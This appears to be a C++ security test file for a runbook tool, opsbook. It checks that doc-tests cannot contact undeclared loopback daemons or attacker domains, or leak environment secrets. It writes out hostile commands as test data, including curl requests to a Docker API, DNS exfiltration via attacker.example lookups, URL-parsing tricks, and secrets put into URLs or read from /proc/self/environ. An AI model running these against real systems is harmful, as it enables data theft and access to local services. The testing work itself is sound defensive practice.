// Promise: "a doc-test reaches only the environment's targets" (docs/safety.md#doc-tests,
// docs/SECURITY.md): a pull request's run=auto runs on the CI machine, beside daemons that are not
// the environment's (a Docker Engine on 127.0.0.1:2375 answers GET /containers/json with every
// container's environment). A loopback server stands for such a daemon: each attack below reaches
// it when bash runs it, and none does under check --live.
#include <catch2/catch.hpp>
#include <cstdlib>
#include <algorithm>
#include <map>

#include "model/process.hpp"
#include "red_team.hpp"

using namespace opsbook;

namespace {

// name -> command reaching 127.0.0.1:`port` (the daemon); `declared` is the environment's nginx.
std::vector<std::pair<std::string, std::string>> attacks(const std::string& port, const std::string& declared) {
  std::string redis = test::stack().at("STACK_REDIS_PORT");
  return {
      {"curl", "curl -s http://127.0.0.1:" + port + "/containers/json"},
      {"curl-localhost", "curl -s http://localhost:" + port + "/containers/json"},
      {"curl-any", "curl -s http://0.0.0.0:" + port + "/containers/json"},
      {"curl-mapped", "curl -s 'http://[::ffff:127.0.0.1]:" + port + "/containers/json'"},
      {"curl-connect-to", "curl -s --connect-to ::127.0.0.1:" + port + " http://127.0.0.1:" + declared + "/"},
      {"curl-run-time", "curl -s \"http://127.0.0.1:$(echo " + port + ")/containers/json\""},
      {"wget", "wget -qO- --max-redirect=0 http://127.0.0.1:" + port + "/containers/json"},
      {"redis", "redis-cli -p " + port + " PING"},
      {"redis-u", "redis-cli -u redis://127.0.0.1:" + port + " PING"},
      {"psql", "psql -h 127.0.0.1 -p " + port + " -c 'SELECT 1'"},
      {"psql-conninfo", "psql 'host=127.0.0.1 port=" + port + "' -c 'SELECT 1'"},
      {"psql-uri", "psql postgresql://127.0.0.1:" + port + "/x -c 'SELECT 1'"},
      {"pg_isready", "pg_isready -h 127.0.0.1 -p " + port},
      // s6a review: where opsbook's reading and the tool's differed.
      {"psql-userinfo", "psql 'postgresql://127.0.0.1:" + declared + "?@127.0.0.1:" + port + "/app' -c 'SELECT 1'"},
      {"redis-u-path", "redis-cli -u redis://127.0.0.1:" + redis + "/0@127.0.0.1:" + port + " PING"},
      {"redis-u-twice", "redis-cli -u redis://127.0.0.1:" + port + " -u redis://localhost PING"},
  };
}

// Connections that sent something. check --live's own TCP probe of a documented host:port
// (`pg_isready -h H -p P` documents one) connects and sends nothing: live probes reach loopback
// by design (allow_hosts), doc-tests are held tighter.
size_t reached(test::RecordingServer& server) {
  auto seen = server.requests();
  return static_cast<size_t>(std::count_if(seen.begin(), seen.end(), [](const std::string& r) { return !r.empty(); }));
}

}  // namespace

TEST_CASE("promise: a doc-test reaches only the environment's targets -- another daemon on a loopback port is never contacted", "[security][doctest]") {
  test::RecordingServer daemon;
  std::string port = std::to_string(daemon.port());
  std::string nginx = test::stack().at("STACK_NGINX_PORT");
  for (const auto& [name, cmd] : attacks(port, nginx)) {
    INFO("the attack must reach the daemon when bash runs it: " << cmd);
    size_t before = reached(daemon);
    model::run_process({"bash", "-c", cmd}, "", std::chrono::seconds(10));
    CHECK(reached(daemon) > before);
  }
  size_t before = reached(daemon);
  std::string rb = "# T\n\n";
  for (const auto& [name, cmd] : attacks(port, nginx)) rb += "```bash {name=" + name + " run=auto expect-exit=0}\n" + cmd + "\n```\n\n";
  rb += "```http {name=http run=auto expect-exit=0}\nGET http://127.0.0.1:" + port + "/containers/json\n```\n\n";
  rb += "```bash {name=declared run=auto expect-stdout=ok}\ncurl -sS -o /dev/null http://127.0.0.1:" + nginx + "/ && echo ok\n```\n";
  test::TempDir dir;
  auto c = test::check_live(dir, test::stack_config("OPSBOOK_PG_DSN", "    hosts: {\"gateway:8080\": \"127.0.0.1:" + nginx + "\"}\n"), rb);
  INFO(c.run.out);
  CHECK(reached(daemon) == before);
  std::map<std::string, std::string> outcome, detail;
  for (const auto& r : c.report["results"]) {
    if (r["kind"] != "doctest") continue;
    outcome[r["snippet"]] = r["outcome"];
    detail[r["snippet"]] = r["detail"];
  }
  CHECK(outcome["declared"] == "pass");
  for (const auto& [name, cmd] : attacks(port, nginx)) {
    INFO(name << ": " << detail[name]);
    CHECK(outcome[name] == "skipped");
  }
  CHECK(outcome["http"] == "skipped");
  std::string rb_path = dir.path().string() + "/rb.md";
  CHECK(detail["curl"] == rb_path + ":4: doc-test not run: 'curl' URL http://127.0.0.1:" + port +
                              "/containers/json connects to 127.0.0.1:" + port +
                              ", a port of this machine that environment 'local' does not name (a doc-test reaches a loopback port only when it is a "
                              "service's url or DSN, or a target under hosts:) (run it with opsbook run, or see docs/safety.md#doc-tests)");
  CHECK(detail["curl-connect-to"].find("'curl' option --connect-to is not on the doc-test allow list") != std::string::npos);
  CHECK(detail["curl-run-time"].find("its host is decided at run time") != std::string::npos);
  CHECK(detail["redis"].find("'redis-cli' connects to 127.0.0.1:" + port + ", a port of this machine") != std::string::npos);
  CHECK(detail["psql-conninfo"].find("'psql' connects to 127.0.0.1:" + port + ", a port of this machine") != std::string::npos);
  CHECK(detail["http"].find("GET http://127.0.0.1:" + port + "/containers/json connects to 127.0.0.1:" + port) != std::string::npos);
}

TEST_CASE("promise: a doc-test reaches only the environment's targets -- names it looks up and hosts it connects to are allow_hosts'", "[security][doctest]") {
  // A lookup of a name under the attacker's domain carries data to its DNS server, even when the
  // answer is ignored: `grep -q ^a secret && host a.attacker.example`.
  std::string rb = "# T\n\n"
                   "```bash {name=lookup run=auto expect-exit=0}\ngetent hosts a.attacker.example\n```\n\n"
                   "```bash {name=lookup-run-time run=auto expect-exit=0}\ngetent hosts \"a.$(head -c 8 /etc/hostname).attacker.example\"\n```\n\n"
                   "```bash {name=remote run=auto expect-exit=0}\ncurl -s https://attacker.example/\n```\n\n"
                   "```bash {name=prefix run=auto expect-exit=0}\ncurl -s http://127.attacker.example/\n```\n";
  test::TempDir dir;
  auto c = test::check_live(dir, test::stack_config("OPSBOOK_PG_DSN"), rb);
  INFO(c.run.out);
  std::map<std::string, std::string> detail;
  for (const auto& r : c.report["results"]) {
    if (r["kind"] == "doctest") {
      CHECK(r["outcome"] == "skipped");
      detail[r["snippet"]] = r["detail"];
    }
  }
  std::string rb_path = dir.path().string() + "/rb.md";
  CHECK(detail["lookup"] == rb_path + ":4: doc-test not run: 'getent' looks up a.attacker.example, which environment 'local' does not allow (allow_hosts: 127.0.0.1) "
                               "(run it with opsbook run, or see docs/safety.md#doc-tests)");
  CHECK(detail["lookup-run-time"].find("'getent' name a.$(head -c 8 /etc/hostname).attacker.example is decided at run time") != std::string::npos);
  CHECK(detail["remote"].find("connects to attacker.example:443, which environment 'local' does not allow") != std::string::npos);
  CHECK(detail["prefix"].find("connects to 127.attacker.example:80, which environment 'local' does not allow") != std::string::npos);
}

TEST_CASE("promise: a doc-test reaches only the environment's targets -- a secret of the environment goes only into a connection string (hostile review #13 round 7)", "[security][doctest]") {
  // The server is a target the environment declares: a doc-test may reach it, but not carry the
  // DSN's password there in its URL (it landed in the server's log), nor test it in an oracle.
  test::RecordingServer declared;
  std::string port = std::to_string(declared.port());
  std::string rb = "# T\n\n"
                   "```bash {name=url run=auto expect-exit=0}\ncurl -s -o /dev/null \"http://127.0.0.1:" + port + "/$OPSBOOK_PG_DSN\"\n```\n\n"
                   "```bash {name=oracle run=auto expect-stdout=ok}\necho \"$OPSBOOK_PG_DSN\" | grep -q shop_readonly && echo ok\n```\n\n"
                   "```bash {name=braced run=auto expect-exit=0}\ncurl -s -o /dev/null \"http://127.0.0.1:" + port + "/?q=${OPSBOOK_PG_DSN}\"\n```\n\n"
                   "```bash {name=herestring run=auto expect-exit=0}\ngrep -q shop_readonly <<< \"$OPSBOOK_PG_DSN\"\n```\n\n"
                   "```bash {name=psql run=auto expect-stdout=1}\npsql \"$OPSBOOK_PG_DSN\" -Atc 'SELECT 1'\n```\n\n"
                   "```bash {name=dbname run=auto expect-stdout=1}\npsql -X -At -d \"$OPSBOOK_PG_DSN\" -c 'SELECT 1'\n```\n\n"
                   // s7c review: any argument of psql or redis-cli counted as a connection string.
                   "```bash {name=separator run=auto expect-stdout=shop}\npsql \"$OPSBOOK_PG_DSN\" -X -At -F \"$OPSBOOK_PG_DSN\" -c 'SELECT 1, 2'\n```\n\n"
                   "```bash {name=user run=auto expect-exit=2}\npsql -h 127.0.0.1 -U \"$OPSBOOK_PG_DSN\" -c 'SELECT 1'\n```\n\n"
                   "```bash {name=redis run=auto expect-exit=0}\nredis-cli -p " + test::stack().at("STACK_REDIS_PORT") + " ECHO \"$OPSBOOK_PG_DSN\"\n```\n\n"
                   // ... and a variable named like a secret was read from CI's environment by its name.
                   "```bash {name=token run=auto expect-stdout=^ghp}\necho \"$OPSBOOK_TEST_GITHUB_TOKEN\"\n```\n\n"
                   "```bash {name=sealkey run=auto expect-stdout=^seal}\necho ${OPSBOOK_CACHE_KEY}\n```\n\n"
                   // s7d review D1: the DSN was in the doc-test's environment, for awk's ENVIRON to test.
                   "```bash {name=environ run=auto expect-exit=1}\nawk 'BEGIN { exit (ENVIRON[\"OPSBOOK_PG_DSN\"] ~ /shop_readonly/) }'\n```\n\n"
                   // s7e review E1: a working folder in /proc made relative names reach environ.
                   "```bash {name=cwd run=auto expect-exit=0 cwd=/proc/self}\ngrep -c shop_readonly environ\n```\n";
  ::setenv("OPSBOOK_TEST_GITHUB_TOKEN", "ghp_opsbook_test", 1);
  ::setenv("OPSBOOK_CACHE_KEY", "seal-key-of-this-test-only", 1);
  test::TempDir dir;
  auto c = test::check_live(dir, test::stack_config("OPSBOOK_PG_DSN", "    hosts: {\"gateway:8080\": \"127.0.0.1:" + port + "\"}\n"), rb);
  INFO(c.run.out);
  std::map<std::string, std::string> outcome, detail;
  for (const auto& r : c.report["results"]) {
    if (r["kind"] != "doctest") continue;
    outcome[r["snippet"]] = r["outcome"];
    detail[r["snippet"]] = r["detail"];
  }
  ::unsetenv("OPSBOOK_TEST_GITHUB_TOKEN");
  ::unsetenv("OPSBOOK_CACHE_KEY");
  CHECK(outcome["psql"] == "pass");
  CHECK(outcome["dbname"] == "pass");
  CHECK(outcome["environ"] == "fail");  // it ran, and found no DSN in its environment
  CHECK(outcome["cwd"] == "skipped");
  CHECK(detail["cwd"].find("doc-test not run: cwd=/proc/self leaves the checkout (/proc/self, /dev, the home folder): a doc-test runs in a folder of it") != std::string::npos);
  for (std::string name : {"token", "sealkey"}) {
    INFO(name << ": " << detail[name]);
    CHECK(outcome[name] == "skipped");
    CHECK(detail[name].find(", a secret of the environment, other than as a whole connection string of psql") != std::string::npos);
  }
  for (std::string name : {"url", "oracle", "braced", "herestring", "separator", "user", "redis"}) {
    INFO(name << ": " << detail[name]);
    CHECK(outcome[name] == "skipped");
    CHECK(detail[name].find("doc-test not run: uses $OPSBOOK_PG_DSN, a secret of the environment, other than as a whole connection string of psql, "
                            "pg_isready or redis-cli (its value would reach a URL, a log or the output)") != std::string::npos);
  }
  CHECK(reached(declared) == 0);
}
